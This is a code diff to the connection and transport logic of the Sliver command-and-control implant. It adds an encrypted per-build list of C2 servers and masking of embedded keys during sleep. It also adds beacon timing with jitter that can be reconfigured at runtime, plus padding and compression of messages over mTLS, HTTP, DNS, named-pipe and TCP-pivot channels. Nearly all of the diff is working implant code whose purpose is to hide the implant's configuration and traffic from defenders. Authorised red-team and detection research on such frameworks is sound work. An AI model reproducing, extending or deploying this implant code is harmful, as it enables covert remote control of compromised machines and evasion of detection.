@@ -28,8 +28,12 @@ import (
 	"log"
 	// {{end}}
 
+	"bytes"
 	"crypto/x509"
+	"encoding/base64"
+	"encoding/hex"
 	"io"
+	insecureRand "math/rand"
 	"net/url"
 	"os"
 	"strconv"
@@ -37,6 +41,7 @@ import (
 	"time"
 
 	pb "github.com/bishopfox/sliver/protobuf/sliverpb"
+	consts "github.com/bishopfox/sliver/sliver/constants"
 
 	// {{if .HTTPc2Enabled}}
 	"github.com/golang/protobuf/proto"
@@ -48,13 +53,17 @@ import (
 )
 
 var (
-	keyPEM    = `{{.Key}}`
-	certPEM   = `{{.Cert}}`
-	caCertPEM = `{{.CACert}}`
+	// Secrets are kept as byte slices so sleep obfuscation can mask them in place
+	keyPEM    = []byte(consts.Patched(consts.PatchKey, `{{.Key}}`))
+	certPEM   = []byte(consts.Patched(consts.PatchCert, `{{.Cert}}`))
+	caCertPEM = []byte(consts.Patched(consts.PatchCACert, `{{.CACert}}`))
 
 	readBufSize       = 16 * 1024 // 16kb
 	maxErrors         = getMaxConnectionErrors()
 	reconnectInterval = getReconnectInterval()
+	beaconInterval    = getBeaconInterval()
+	beaconJitter      = getBeaconJitter()
+	timingMutex       = &sync.RWMutex{}
 
 	ccCounter = new(int)
 
@@ -87,6 +96,67 @@ type Tunnel struct {
 	ID     uint64
 	Reader io.ReadCloser
 	Writer io.WriteCloser
+
+	// Tunnel messages are handled concurrently so they may arrive out of
+	// order, sequence numbers are used to write data in the order it was sent
+	readSequence  uint64
+	writeSequence uint64
+	pending       map[uint64][]byte
+	closeSequence *uint64
+	mutex         *sync.Mutex
+}
+
+// NewTunnel - Create a new tunnel
+func NewTunnel(ID uint64, reader io.ReadCloser, writer io.WriteCloser) *Tunnel {
+	return &Tunnel{
+		ID:      ID,
+		Reader:  reader,
+		Writer:  writer,
+		pending: map[uint64][]byte{},
+		mutex:   &sync.Mutex{},
+	}
+}
+
+// NextReadSequence - Sequence number for the next chunk of data read from the tunnel
+func (t *Tunnel) NextReadSequence() uint64 {
+	t.mutex.Lock()
+	defer t.mutex.Unlock()
+	sequence := t.readSequence
+	t.readSequence++
+	return sequence
+}
+
+// WriteSequenced - Write data in sequence order, data that arrives early is
+// held until any missing data is received. Returns true if the tunnel should
+// now be closed.
+func (t *Tunnel) WriteSequenced(sequence uint64, data []byte) bool {
+	t.mutex.Lock()
+	defer t.mutex.Unlock()
+	if sequence < t.writeSequence {
+		return false // Duplicate
+	}
+	t.pending[sequence] = data
+	for {
+		next, ok := t.pending[t.writeSequence]
+		if !ok {
+			break
+		}
+		delete(t.pending, t.writeSequence)
+		t.writeSequence++
+		if 0 < len(next) {
+			t.Writer.Write(next)
+		}
+	}
+	return t.closeSequence != nil && *t.closeSequence <= t.writeSequence
+}
+
+// CloseSequenced - Returns true if all data sent before the close has been
+// written, otherwise the close is deferred until WriteSequenced catches up
+func (t *Tunnel) CloseSequenced(sequence uint64) bool {
+	t.mutex.Lock()
+	defer t.mutex.Unlock()
+	t.closeSequence = &sequence
+	return sequence <= t.writeSequence
 }
 
 // Tunnel - Add tunnel to mapping
@@ -124,6 +194,9 @@ func StartConnectionLoop() *Connection {
 		var err error
 
 		uri := nextCCServer()
+		if uri == nil {
+			break
+		}
 		// {{if .Debug}}
 		log.Printf("Next CC = %s", uri.String())
 		// {{end}}
@@ -213,9 +286,9 @@ func StartConnectionLoop() *Connection {
 		}
 
 		// {{if .Debug}}
-		log.Printf("Sleep %d second(s) ...", reconnectInterval/time.Second)
+		log.Printf("Sleep %d second(s) ...", GetReconnectInterval()/time.Second)
 		// {{end}}
-		time.Sleep(reconnectInterval)
+		time.Sleep(GetReconnectInterval())
 	}
 	// {{if .Debug}}
 	log.Printf("[!] Max connection errors reached\n")
@@ -224,10 +297,35 @@ func StartConnectionLoop() *Connection {
 	return nil
 }
 
-var ccServers = []string{
-	// {{range $index, $value := .C2}}
-	"{{$value}}", // {{$index}}
-	// {{end}}
+// ccServers - C2 URLs of any scheme, in priority order
+var ccServers = parseCCServers(consts.Patched(consts.PatchC2, "{{.C2Blob}}"), "{{.C2Key}}")
+
+// parseCCServers - The blob is encrypted with a key that's new for each build
+func parseCCServers(blob string, c2Key string) [][]byte {
+	key, err := hex.DecodeString(c2Key)
+	if err != nil || len(key) != AESKeySize {
+		// {{if .Debug}}
+		log.Printf("Invalid C2 key")
+		// {{end}}
+		return [][]byte{}
+	}
+	data, err := base64.StdEncoding.DecodeString(blob)
+	if err == nil {
+		data, err = GCMDecrypt(AESKey{}.FromBytes(key), data)
+	}
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("Invalid C2 config %s", err)
+		// {{end}}
+		return [][]byte{}
+	}
+	servers := [][]byte{}
+	for _, server := range bytes.Split(data, []byte("\n")) {
+		if 0 < len(server) {
+			servers = append(servers, server)
+		}
+	}
+	return servers
 }
 
 // GetActiveC2 returns the URL of the C2 in use
@@ -241,7 +339,12 @@ func GetActiveConnection() *Connection {
 }
 
 func nextCCServer() *url.URL {
-	uri, err := url.Parse(ccServers[*ccCounter%len(ccServers)])
+	if len(ccServers) == 0 {
+		return nil
+	}
+	secretsMutex.RLock()
+	uri, err := url.Parse(string(ccServers[*ccCounter%len(ccServers)]))
+	secretsMutex.RUnlock()
 	*ccCounter++
 	if err != nil {
 		return nextCCServer()
@@ -250,15 +353,81 @@ func nextCCServer() *url.URL {
 }
 
 func getReconnectInterval() time.Duration {
-	reconnect, err := strconv.Atoi(`{{.ReconnectInterval}}`)
+	reconnect, err := strconv.Atoi(consts.Patched(consts.PatchReconnectInterval, `{{.ReconnectInterval}}`))
 	if err != nil {
 		return 60 * time.Second
 	}
 	return time.Duration(reconnect) * time.Second
 }
 
+// GetReconnectInterval - Time to wait after a failed connection attempt
+func GetReconnectInterval() time.Duration {
+	timingMutex.RLock()
+	defer timingMutex.RUnlock()
+	return reconnectInterval
+}
+
+// GetBeaconInterval - Time between beacon check-ins, before jitter
+func GetBeaconInterval() time.Duration {
+	timingMutex.RLock()
+	defer timingMutex.RUnlock()
+	return beaconInterval
+}
+
+// GetBeaconJitter - Maximum random time added to or subtracted from the interval
+func GetBeaconJitter() time.Duration {
+	timingMutex.RLock()
+	defer timingMutex.RUnlock()
+	return beaconJitter
+}
+
+// GetBeaconSleep - Time until the next beacon check-in, the interval +/- a random jitter
+func GetBeaconSleep() time.Duration {
+	interval := GetBeaconInterval()
+	jitter := GetBeaconJitter()
+	sleep := interval
+	if 0 < jitter {
+		sleep += time.Duration(insecureRand.Int63n(2*int64(jitter)+1)) - jitter
+	}
+	if sleep < time.Second {
+		sleep = time.Second
+	}
+	return sleep
+}
+
+// Reconfigure - Change the reconnect interval and beacon timing, zero values are left unchanged
+func Reconfigure(reconnect time.Duration, interval time.Duration, jitter time.Duration) {
+	timingMutex.Lock()
+	defer timingMutex.Unlock()
+	if 0 < reconnect {
+		reconnectInterval = reconnect
+	}
+	if 0 < interval {
+		beaconInterval = interval
+	}
+	if 0 < jitter {
+		beaconJitter = jitter
+	}
+}
+
+func getBeaconInterval() time.Duration {
+	interval, err := strconv.Atoi(consts.Patched(consts.PatchBeaconInterval, `{{.BeaconInterval}}`))
+	if err != nil || interval < 1 {
+		return 60 * time.Second
+	}
+	return time.Duration(interval) * time.Second
+}
+
+func getBeaconJitter() time.Duration {
+	jitter, err := strconv.Atoi(consts.Patched(consts.PatchBeaconJitter, `{{.BeaconJitter}}`))
+	if err != nil || jitter < 0 {
+		return 0
+	}
+	return time.Duration(jitter) * time.Second
+}
+
 func getMaxConnectionErrors() int {
-	maxConnectionErrors, err := strconv.Atoi(`{{.MaxConnectionErrors}}`)
+	maxConnectionErrors, err := strconv.Atoi(consts.Patched(consts.PatchMaxConnectionErrors, `{{.MaxConnectionErrors}}`))
 	if err != nil {
 		return 1000
 	}
@@ -303,6 +472,7 @@ func mtlsConnect(uri *url.URL) (*Connection, error) {
 	go func() {
 		defer connection.Cleanup()
 		for envelope := range send {
+			padEnvelope(envelope)
 			socketWriteEnvelope(conn, envelope)
 		}
 	}()
@@ -358,17 +528,20 @@ func httpConnect(uri *url.URL) (*Connection, error) {
 			close(send)
 			ctrl <- true
 			close(recv)
+			go client.CloseSession()
 		},
 	}
 
 	go func() {
 		defer connection.Cleanup()
 		for envelope := range send {
+			padEnvelope(envelope)
+			compressEnvelope(client.Compression, envelope)
 			data, _ := proto.Marshal(envelope)
 			// {{if .Debug}}
 			log.Printf("[http] send envelope ...")
 			// {{end}}
-			go client.Send(data)
+			go client.Send(data, envelopeLimiters(envelope))
 		}
 	}()
 
@@ -384,7 +557,7 @@ func httpConnect(uri *url.URL) (*Connection, error) {
 				case nil:
 					envelope := &pb.Envelope{}
 					proto.Unmarshal(resp, envelope)
-					if err != nil {
+					if err := decompressEnvelope(envelope); err != nil {
 						continue
 					}
 					recv <- envelope
@@ -426,10 +599,11 @@ func dnsConnect(uri *url.URL) (*Connection, error) {
 	// {{if .Debug}}
 	log.Printf("Attempting to connect via DNS via parent: %s\n", dnsParent)
 	// {{end}}
-	sessionID, sessionKey, err := dnsStartSession(dnsParent)
+	initResp, sessionKey, err := dnsStartSession(dnsParent)
 	if err != nil {
 		return nil, err
 	}
+	sessionID := initResp.ID
 	// {{if .Debug}}
 	log.Printf("Starting new session with id = %s\n", sessionID)
 	// {{end}}
@@ -458,7 +632,14 @@ func dnsConnect(uri *url.URL) (*Connection, error) {
 	go func() {
 		defer connection.Cleanup()
 		for envelope := range send {
-			dnsSessionSendEnvelope(dnsParent, sessionID, sessionKey, envelope)
+			envelopes := []*pb.Envelope{envelope}
+			if initResp.Batching {
+				envelopes = drainEnvelopes(send, envelopes)
+			}
+			for _, envelope := range envelopes {
+				padEnvelope(envelope)
+			}
+			dnsSessionSendEnvelopes(dnsParent, sessionID, sessionKey, initResp.Compression, initResp.Multipart, envelopes)
 		}
 	}()
 
@@ -503,6 +684,7 @@ func namedPipeConnect(uri *url.URL) (*Connection, error) {
 	go func() {
 		defer connection.Cleanup()
 		for envelope := range send {
+			padEnvelope(envelope)
 			// {{if .Debug}}
 			log.Printf("[namedpipe] send loop envelope type %d\n", envelope.Type)
 			// {{end}}
@@ -562,6 +744,7 @@ func tcpPivotConnect(uri *url.URL) (*Connection, error) {
 	go func() {
 		defer connection.Cleanup()
 		for envelope := range send {
+			padEnvelope(envelope)
 			// {{if .Debug}}
 			log.Printf("[tcp-pivot] send loop envelope type %d\n", envelope.Type)
 			// {{end}}
@@ -596,7 +779,9 @@ func tcpPivotConnect(uri *url.URL) (*Connection, error) {
 func rootOnlyVerifyCertificate(rawCerts [][]byte, _ [][]*x509.Certificate) error {
 
 	roots := x509.NewCertPool()
-	ok := roots.AppendCertsFromPEM([]byte(caCertPEM))
+	secretsMutex.RLock()
+	ok := roots.AppendCertsFromPEM(caCertPEM)
+	secretsMutex.RUnlock()
 	if !ok {
 		// {{if .Debug}}
 		log.Printf("Failed to parse root certificate")